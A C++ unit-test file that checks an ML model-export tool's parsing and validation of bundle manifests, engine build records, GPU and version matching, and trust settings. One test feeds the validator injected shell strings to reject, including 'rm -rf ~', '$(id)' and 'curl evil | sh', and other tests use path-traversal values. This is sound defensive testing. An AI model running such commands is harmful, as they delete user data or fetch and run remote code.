// Manifests and build.json: what is wrong is named.
#include <doctest/doctest.h>

#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

#include "branches.hpp"
#include "bundle.hpp"
#include "engine_folder.hpp"
#include "json.hpp"
#include "manifest.hpp"
#include "own_lines.hpp"
#include "sha256.hpp"
#include "text.hpp"

using namespace mghft;
namespace fs = std::filesystem;

namespace {

std::string replaced(std::string text, const std::string& from, const std::string& to) {
    const std::size_t place = text.find(from);
    REQUIRE(place != text.npos);
    return text.replace(place, from.size(), to);
}

std::string graph(const std::string& file, const std::string& inputs, const std::string& outputs) {
    return text(R"({"file": )", file, R"(, "opset": 18, "nodes": 1, "inputs": [)", inputs, R"(], "outputs": [)",
                outputs, "]}");
}

// A folder with a manifest, a tokenizer and one graph, all of the content "x".
class Folder {
  public:
    Folder() : path(fs::temp_directory_path() / text("mghft-test-", ::getpid())) {
        fs::create_directories(path);
        write("tokenizer.json", "x");
        write("text.onnx", "x");
        write("manifest.json", manifest());
    }
    ~Folder() { fs::remove_all(path); }

    void write(const std::string& name, const std::string& content) const {
        fs::create_directories((path / name).parent_path());
        std::ofstream(path / name) << content;
    }

    static std::string file(const std::string& name) {
        return text(R"({"path": ")", name, R"(", "sha256": ")", hexadecimal(sha256("x")), R"(", "bytes": 1})");
    }

    static std::string manifest() {
        return text(R"({"schema_version": 1, "producer": "test", "trained": true, "checkpoint": {"name": "c"},
            "class_names": ["a", "b"],
            "image": {"height": 64, "width": 96, "crop_fraction": 0.875, "mean": [0.5, 0.5, 0.5],
                      "std": [0.2, 0.2, 0.2], "background": "#f80"},
            "text": {"views": "joined", "pooling": "masked", "max_length": 128},
            "tokenizer": )",
                    file("tokenizer.json"), R"(, "precisions": {"fp32": {"text": )",
                    graph(file("text.onnx"), R"({"name": "input_ids", "shape": ["batch", "length"], "dtype": "int64"})",
                          R"({"name": "text_features", "shape": ["batch", 8], "dtype": "float32"})"),
                    "}}}");
    }

    fs::path path;
};

const char* kBuild = R"({"schema_version": 1, "producer": "p", "backend": "tensorrt", "version": "10.3.0.26",
    "precision": "fp32", "targets": [], "gpu": {"name": "Orin", "sm": 87, "driver": "12.6"},
    "flags": {"version_compatible": false, "hardware_compatible": null}, "command": "mghft-export trt b --target sm87 --fp16",
    "engines": {"text": {"file": FILE, "onnx": FILE}}})";

std::string build_json() {
    const std::string file = Folder::file("text.engine");
    return replaced(replaced(kBuild, "FILE", file), "FILE", file);
}

}  // namespace

TEST_CASE("a manifest is read") {
    const Manifest manifest = parse_manifest(Folder::manifest(), "b");
    CHECK(manifest.image.background == std::array<std::uint8_t, 3>{255, 136, 0});
    CHECK(manifest.class_names.size() == 2);
    CHECK(manifest.precisions.at("fp32").at("text").inputs[0].shape == std::vector<std::int64_t>{-1, -1});
}

TEST_CASE("how INT8 was made is read, and is an earlier version's where the manifest does not say") {
    const auto made = [](const std::string& more) {
        const std::string entry = text(R"("quantization": {"int8": {"recipe": )", Folder::file("r.json"), more, "}}, ");
        return parse_manifest(replaced(Folder::manifest(), R"("producer")", entry + R"("producer")"), "b");
    };
    CHECK(made(R"(, "sums_in_16_bits": true)").quantization.at("int8").sums_in_16_bits);
    CHECK_FALSE(made(R"(, "sums_in_16_bits": false)").quantization.at("int8").sums_in_16_bits);
    CHECK_FALSE(made("").quantization.at("int8").sums_in_16_bits);
    CHECK_THROWS_WITH_AS(made(R"(, "sums_in_16_bits": 1)"), doctest::Contains("sums_in_16_bits"), JsonError);
    CHECK(parse_manifest(Folder::manifest(), "b").quantization.empty());
}

TEST_CASE("what is wrong with a manifest is named") {
    const std::string good = Folder::manifest();
    const auto said = [](const std::string& content) {
        try {
            parse_manifest(content, "b");
        } catch (const std::exception& error) {
            return std::string(error.what());
        }
        return std::string();
    };
    CHECK(said("{") == "is not JSON");
    CHECK(said("[]") == ": is no object");
    CHECK(said(replaced(good, R"("schema_version": 1)", R"("schema_version": 2)")) ==
          "b has schema version 2, this program reads 1; export it again");
    CHECK(said(replaced(good, R"("height": 64)", R"("height": "64")")) == "image.height: is no whole number");
    CHECK(said(replaced(good, R"("height": 64)", R"("height": -64)")) == "image.height: is -64, not from 32 to 16384");
    CHECK(said(replaced(good, R"("height": 64)", R"("height": 18446744073709551615)")) == "image.height: is too large");
    CHECK(said(replaced(good, "#f80", "plaid")) ==
          "image.background: 'plaid' is no colour such as 'white' or '#ff8800'");
    CHECK(said(replaced(good, "[0.2, 0.2, 0.2]", "[0.2, 0, 0.2]")) == "image.std: is not above 0");
    CHECK(said(replaced(good, R"(["a", "b"])", "[]")) == "class_names: is empty");
    CHECK(said(replaced(good, R"(["batch", 8])", "[1, 2, 3, 4, 5]")) ==
          "precisions.fp32.text.outputs.0.shape: has not one to four dimensions");
    CHECK(said(replaced(good, R"(["batch", 8])", "[268435456, 268435456]")) ==
          "precisions.fp32.text.outputs.0.shape: is too large");
}

TEST_CASE("a bundle's files are there, inside it, with their sizes and hashes") {
    const Folder folder;
    const Bundle bundle = load_bundle(folder.path);
    CHECK(bundle.content(bundle.manifest.tokenizer) == "x");
    folder.write("tokenizer.json", "y");
    CHECK_THROWS_WITH_AS(bundle.content(bundle.manifest.tokenizer), doctest::Contains("was changed after the export"),
                         Error);
    folder.write("tokenizer.json", "yy");
    CHECK_THROWS_WITH_AS(load_bundle(folder.path), doctest::Contains("has 2 bytes, expected 1"), Error);
    fs::remove(folder.path / "tokenizer.json");
    CHECK_THROWS_WITH_AS(load_bundle(folder.path), doctest::Contains("is missing from the bundle"), Error);
    folder.write("manifest.json", replaced(Folder::manifest(), "tokenizer.json", "../../../etc/hostname"));
    CHECK_THROWS_WITH_AS(load_bundle(folder.path), doctest::Contains("which is outside the bundle"), Error);
    CHECK_THROWS_WITH_AS(load_bundle(folder.path / "nothing"), doctest::Contains("is not a bundle"), Error);
    CHECK_THROWS_WITH_AS(bundle.graph("vision", "fp32"), doctest::Contains("has no vision graph in fp32"), Error);
    CHECK_THROWS_WITH_AS(bundle.graph("text", "fp8"), doctest::Contains("has no fp8 graphs, only fp32"), Error);
}

TEST_CASE("engines are checked before they are loaded") {
    const Folder folder;
    const Bundle bundle = load_bundle(folder.path);
    folder.write("engines/e/text.engine", "x");
    folder.write("engines/e/build.json", build_json());
    const fs::path path = find_engine_folder(bundle, "e");
    const EngineFolder found = load_engine_folder(path, bundle);
    CHECK(found.content("text") == "x");
    CHECK(bundle.info().engines == std::vector<std::string>{"e"});
    CHECK_THROWS_WITH_AS(found.content("vision"), doctest::Contains("has no vision engine"), Error);
    CHECK_THROWS_WITH_AS(find_engine_folder(bundle, "f"), doctest::Contains("the bundle has e"), Error);

    check_version(found, "tensorrt", "10.3.0.26");
    check_version(found, "tensorrt", "10.3.0");  // as the Python package names it
    CHECK_THROWS_AS(check_version(found, "tensorrt", "10.3.0.30"), Error);
    CHECK_THROWS_AS(check_version(found, "tensorrt", "10.3.1"), Error);
    CHECK_THROWS_AS(check_version(found, "tensorrt", "10.3"), Error);
    CHECK_THROWS_WITH_AS(check_version(found, "tensorrt", "10.4.0.1"),
                         doctest::Contains("and this is TensorRT 10.4.0.1"), Error);
    CHECK_THROWS_AS(check_version(found, "rtx", "10.3.0.26"), Error);
    check_gpu(found, {"Orin", 87});
    CHECK_THROWS_WITH_AS(
        check_gpu(found, {"NVIDIA A10", 86}),
        doctest::Contains("was built for Orin (sm87), and this is NVIDIA A10 (sm86); build it for this "
                          "GPU with: mghft-export trt b --fp16"),
        Error);

    folder.write("engines/e/text.engine", "y");
    CHECK_THROWS_WITH_AS(found.content("text"), doctest::Contains("was changed after it was built"), Error);
    folder.write("engines/e/text.engine", "yy");
    CHECK_THROWS_WITH_AS(load_engine_folder(path, bundle), doctest::Contains("was changed after it was built"), Error);
    folder.write("engines/e/build.json", replaced(build_json(), "text.engine", "../../text.onnx"));
    CHECK_THROWS_WITH_AS(load_engine_folder(path, bundle), doctest::Contains("which is outside of it"), Error);
    folder.write("engines/e/build.json", replaced(build_json(), "tensorrt", "openvino"));
    CHECK_THROWS_WITH_AS(load_engine_folder(path, bundle), doctest::Contains("backend: is not known"), Error);
}

TEST_CASE("advice to paste is our own command") {
    const Folder folder;
    const Bundle bundle = load_bundle(folder.path);
    const fs::path path = folder.path / "engines/e";
    const auto read = [&](const std::string& command) {
        folder.write("engines/e/text.engine", "x");
        folder.write("engines/e/build.json", replaced(build_json(), "mghft-export trt b --target sm87 --fp16", command));
        return load_engine_folder(path, bundle);
    };
    for (const char* good : {"mghft-export trt b --fp16", "mghft-export trt", "mghft-export trt --target",
                             R"(mghft-export trt '/a folder/it'\"'\"'s' --batch 1,2,4 --target sm86,sm89)"}) {
        CAPTURE(good);
        CHECK_THROWS_AS(check_gpu(read(good), {"NVIDIA A10", 86}), Error);
    }
    CHECK_THROWS_WITH_AS(check_gpu(read("mghft-export trt 'x --target y' --target sm87 --fp16"), {"NVIDIA A10", 86}),
                         doctest::Contains("build it for this GPU with: mghft-export trt 'x --target y' --fp16"), Error);
    for (const char* bad : {"mghft-export trt b; rm -rf ~", "mghft-export trt $(id)", "mghft-export trt b\\ncurl evil",
                            "mghft-export trt 'b", "mghft-export trt '\\u001b[2J'", "mghft-export trtx", "curl evil | sh",
                            "mghft-export trt  b", "mghft-export trt ", ""}) {
        CAPTURE(bad);
        CHECK_THROWS_WITH_AS(read(bad), doctest::Contains("is no command of mghft-export trt"), Error);
    }
}

TEST_CASE("engines are loaded if they were built here or the user vouches for them") {
    const Folder cache;
    ::setenv("XDG_CACHE_HOME", cache.path.c_str(), 1);
    ::unsetenv("MGHFT_TRUST_ENGINES");
    EngineFolder folder;
    folder.engines["vision"].file.sha256 = std::string(64, 'a');
    folder.engines["text"].file.sha256 = std::string(64, 'b');
    const auto built = [](const std::string& hash) {
        change_own_lines("engines.txt", "mghft-export built engines 1", [&](Lines& lines) { lines.push_back(hash); });
    };
    CHECK_THROWS_WITH_AS(check_trust(folder), doctest::Contains("add --trust-engine"), Error);
    built(std::string(64, 'a'));
    CHECK_THROWS_AS(check_trust(folder), Error);
    built(std::string(64, 'b'));
    check_trust(folder);
    ::chmod((cache.path / "mghft-export/verified/engines.txt").c_str(), 0666);
    CHECK_THROWS_AS(check_trust(folder), Error);
    ::setenv("MGHFT_TRUST_ENGINES", "1", 1);
    check_trust(folder);
    ::unsetenv("MGHFT_TRUST_ENGINES");
    ::unsetenv("XDG_CACHE_HOME");
}

TEST_CASE("every Jetson Orin is called Orin") {
    const std::int64_t gib = std::int64_t(1) << 30;
    EngineFolder folder;
    folder.path = "e";
    folder.backend = "tensorrt";
    folder.gpu = Gpu{"Orin", 87, 16, 61 * gib};
    check_gpu(folder, {"Orin", 87, 16, 59 * gib});
    CHECK_THROWS_WITH_AS(check_gpu(folder, {"Orin", 87, 8, 61 * gib}),
                         doctest::Contains("was built for Orin (sm87) with 16 multiprocessors and 61.0 GiB, and this is "
                                           "Orin (sm87) with 8 multiprocessors and 61.0 GiB; build it for this GPU"),
                         Error);
    CHECK_THROWS_AS(check_gpu(folder, {"Orin", 87, 16, 30 * gib}), Error);
    folder.gpu = Gpu{"Orin", 87};  // of an earlier version
    check_gpu(folder, {"Orin", 87, 8, 7 * gib});
}

TEST_CASE("compatible engines run on more than the GPU that built them") {
    EngineFolder folder;
    folder.backend = "tensorrt";
    folder.version = "10.3.0.26";
    folder.gpu = Gpu{"A", 86};
    folder.version = "10.3.0";
    check_version(folder, "tensorrt", "10.3.0.30");
    CHECK_THROWS_AS(check_version(folder, "tensorrt", "10.3.1.5"), Error);
    folder.version = "10.3";
    CHECK_THROWS_AS(check_version(folder, "tensorrt", "10.3.0.26"), Error);
    folder.version = "10.3.0.26";
    folder.hardware_compatible = "ampere+";
    check_gpu(folder, {"B", 120});
    folder.hardware_compatible = "same-sm";
    check_gpu(folder, {"B", 86});
    CHECK_THROWS_AS(check_gpu(folder, {"B", 89}), Error);
    folder.version_compatible = true;
    check_version(folder, "tensorrt", "10.9.0.1");
    CHECK_THROWS_AS(check_version(folder, "tensorrt", "10.2.0.1"), Error);
    CHECK_THROWS_AS(check_version(folder, "tensorrt", "11.0.0.1"), Error);
    ::unsetenv("MGHFT_ALLOW_HOST_CODE");
    CHECK_THROWS_WITH_AS(check_host_code(folder), doctest::Contains("allow it with MGHFT_ALLOW_HOST_CODE=1"), Error);
    ::setenv("MGHFT_ALLOW_HOST_CODE", "0", 1);
    CHECK_THROWS_AS(check_host_code(folder), Error);
    ::setenv("MGHFT_ALLOW_HOST_CODE", "1", 1);
    check_host_code(folder);
    ::unsetenv("MGHFT_ALLOW_HOST_CODE");
    folder.version_compatible = false;
    check_host_code(folder);
    folder.backend = "rtx";
    folder.targets = {86, 89};
    check_gpu(folder, {"B", 89});
    CHECK_THROWS_AS(check_gpu(folder, {"B", 120}), Error);
    folder.targets.clear();
    check_gpu(folder, {"B", 120});
    CHECK_THROWS_AS(check_gpu(folder, {"B", 75}), Error);
}

#ifndef MGHFT_OPENVINO
TEST_CASE("a build without OpenVINO says how to get one") {
    const Folder folder;
    Options options;
    options.provider = "openvino";
    CHECK_THROWS_WITH_AS(open_branches(load_bundle(folder.path), options), doctest::Contains("no OpenVINO; build with"),
                         Error);
}
#endif
